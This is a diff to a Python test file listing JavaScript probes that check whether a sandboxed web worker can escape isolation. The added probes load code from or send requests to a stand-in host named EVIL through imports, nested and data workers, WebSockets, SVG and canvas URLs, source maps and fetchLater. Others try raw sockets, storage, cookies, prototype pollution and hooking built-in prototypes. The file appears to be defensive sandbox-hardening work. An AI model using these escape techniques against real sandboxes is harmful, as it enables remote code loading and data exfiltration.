@@ -8,7 +8,7 @@ reaches it) and `OWN` (the app's own address). It gives what it got hold of; not
 from __future__ import annotations
 
 #: in the worker, where a program runs
-IN_THE_WORKER = {
+IN_THE_WORKER: dict[str, str] = {
     "origin": "return self.origin === 'null' ? '' : self.origin",
     "indexedDB": "const r = indexedDB.open('drleelm'); return await new Promise((y, n) => { r.onsuccess = () => y('open'); r.onerror = n; })",
     "indexedDB databases": "return (await indexedDB.databases()).map(one => one.name).join() || 'listed'",
@@ -44,6 +44,7 @@ IN_THE_WORKER = {
       return await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 3000); })""",
     "a worker's database": """const text = `try { indexedDB.open('drleelm').onsuccess = () => postMessage('open'); } catch { postMessage('') }`;
       return await new Promise((y, n) => { const w = new Worker(URL.createObjectURL(new Blob([text]))); w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 1000); })""",
+    "a worker that stays": "return 'Worker' in self ? 'there' : ''",
     "shared worker": "return String(new SharedWorker(OWN + 'static/js/quiet-worker.js'))",
     "service worker": "return String(await navigator.serviceWorker.register(OWN + 'sw.js'))",
     "broadcast": "for (const name of NAMES) new BroadcastChannel(name).postMessage(['erased']); return ''",
@@ -73,6 +74,56 @@ IN_THE_WORKER = {
       self.postMessage({ workers: 1 }); self.postMessage(['do', 'startOver']);
       return ''""",
     "pollution": "Object.prototype.polluted = 1; Array.prototype.polluted = 1; return ''",
+}
+
+#: how a script of another worker than the program's own says that it got somewhere
+_NESTED = "const w = new Worker(URL.createObjectURL(new Blob([TEXT])), TYPE); return await new Promise((y, n) => { w.onmessage = e => y(e.data); w.onerror = n; setTimeout(n, 1500); })"
+
+
+def _nested(text: str, kind: str = "{}") -> str:
+    return _NESTED.replace("TEXT", f"`{text}`").replace("TYPE", kind)
+
+
+# Those of a reviewer who had not read the others.
+IN_THE_WORKER |= {
+    "file system of old": "return String(await new Promise((y, n) => webkitRequestFileSystem(0, 1e6, y, n)))",
+    "file system of old, at once": "return String(webkitRequestFileSystemSync(0, 1e6))",
+    "storage buckets": "return String(await navigator.storageBuckets.open('a'))",
+    "shared storage": "return String(await sharedStorage.set('a', 'b'))",
+    "persisted": "return String(await navigator.storage.persist() || '')",
+    "set a cookie": "await cookieStore.set('a', '1'); return 'set'",
+    "a lock of the page": "return await navigator.locks.request('drleelm', () => 'locked')",
+    "another world": "return String(new ShadowRealm().evaluate('1'))",
+    "import json": "return String((await import(EVIL + 'a.json', { with: { type: 'json' } })).default)",
+    "import css": "return String((await import(EVIL + 'a.css', { with: { type: 'css' } })).default)",
+    "import by a blob": "return String(await import(URL.createObjectURL(new Blob([`export * from '${EVIL}chained.js'`], { type: 'text/javascript' }))))",
+    "import the source": "return String(await eval(`import.source('${EVIL}m.wasm')`))",
+    "a map of the source": "try { eval(`throw new Error(1)//# sourceURL=${EVIL}source.js\n//# sourceMappingURL=${EVIL}map.json`); } catch (e) { e.stack; } return ''",
+    "the console's style": "console.log('%cx', `background: url(${EVIL}console)`); return ''",
+    "fetch taken back": "delete self.fetch; return (await self.fetch(EVIL + 'deleted')).status",
+    "importScripts taken back": "delete self.importScripts; self.importScripts(EVIL + 'deleted.js'); return 'imported'",
+    "data worker": "const w = new Worker(`data:text/javascript,fetch('${EVIL}data').then(() => postMessage(1))`); return await new Promise((y, n) => { w.onmessage = y; w.onerror = n; setTimeout(n, 1500); })",
+    "module worker": _nested("import '${EVIL}module.js'; postMessage('ran')", "{ type: 'module' }"),
+    "a worker's socket": _nested(
+        "new WebSocket('${EVIL.replace('http', 'ws')}nested').onopen = () => postMessage('open')"
+    ),
+    "a worker's script": _nested("importScripts('${EVIL}nested.js'); postMessage('ran')"),
+    "a worker's worker": _nested(
+        "const w = new Worker(URL.createObjectURL(new Blob([\"fetch('${EVIL}deep').then(() => postMessage('got'))\"]))); w.onmessage = e => postMessage(e.data)"
+    ),
+    "a picture that names another": "return String(await createImageBitmap(new Blob([`<svg xmlns='http://www.w3.org/2000/svg'><image href='${EVIL}bitmap'/></svg>`], { type: 'image/svg+xml' })))",
+    "a canvas that names another": "const c = new OffscreenCanvas(9, 9).getContext('2d'); c.filter = `url(${EVIL}filter#a)`; c.font = '9px x'; c.fillText('x', 0, 0); return ''",
+    "where home is": "return /^blob:null/.test(location.href) ? String(location.ancestorOrigins?.[0] ?? '') : location.href",
+    "a blob of home": "const r = new XMLHttpRequest(); r.open('GET', `blob:${OWN}00000000-0000-0000-0000-000000000000`, false); r.send(); return r.status",
+    "fetch later": "return String(fetchLater(EVIL + 'later'))",
+    "attribution": "return (await fetch(EVIL + 'attribution', { attributionReporting: { eventSourceEligible: true, triggerEligible: true } })).status",
+    "a bare socket": "return String(new TCPSocket('127.0.0.1', 80))",
+    "serial ports": "return String((await navigator.serial.getPorts()).length)",
+    "wake lock": "return String(await navigator.wakeLock.request())",
+    "patched prototypes": """for (const [of, name] of [[Array.prototype, 'map'], [Object, 'entries'], [Promise.prototype, 'then'], [Response.prototype, 'arrayBuffer'], [TextDecoder.prototype, 'decode']]) {
+        const own = of[name]; of[name] = function (...words) { self.seen = this; return own.apply(this, words); };
+      }
+      Object.defineProperty(Object.prototype, 'toJSON', { configurable: true, get() { return undefined; } }); return ''""",
 }
 
 #: in Python itself
